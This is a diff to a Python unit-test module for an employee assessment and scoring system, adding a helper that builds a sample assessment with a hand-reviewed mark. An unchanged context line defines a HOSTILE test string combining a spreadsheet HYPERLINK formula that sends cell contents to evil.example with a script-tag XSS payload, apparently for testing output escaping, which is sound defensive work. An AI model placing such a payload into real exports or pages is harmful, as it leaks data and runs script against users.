@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+from dataclasses import replace
 from decimal import Decimal
 
 from lianbing.domain.assessment.assessment import Assessment, Candidate
@@ -12,6 +13,7 @@ from lianbing.domain.assessment.sources import skill_part
 from lianbing.domain.drills.papers import Basis, Employee
 from lianbing.domain.items.question import Skill
 from lianbing.domain.kernel.periods import Period, Span
+from lianbing.domain.ledger.ledger import Cause
 from tests.unit.objects import sittings
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"x")<script>alert(1)</script>'
@@ -81,6 +83,13 @@ def candidate(number: str, name: str, points: str, first_entry: int, missing: tu
         )
     person = Employee(id=number, name=name, team="城区一组" if number < "C0003" else "乡镇组")
     return Candidate(employee=person, marks=tuple(marks), sittings=sittings(marks, missing))
+
+
+def with_change(assessment: Assessment) -> Assessment:
+    """The same with a mark of its first person that somebody changed by hand."""
+    first, *others = assessment.results
+    mark = replace(first.marks[0], cause=Cause.REVIEWED, before=Decimal(0), reason="意思相同", by="样例复核员")
+    return replace(assessment, results=(replace(first, marks=(mark, *first.marks[1:])), *others))
 
 
 def sample() -> Assessment:
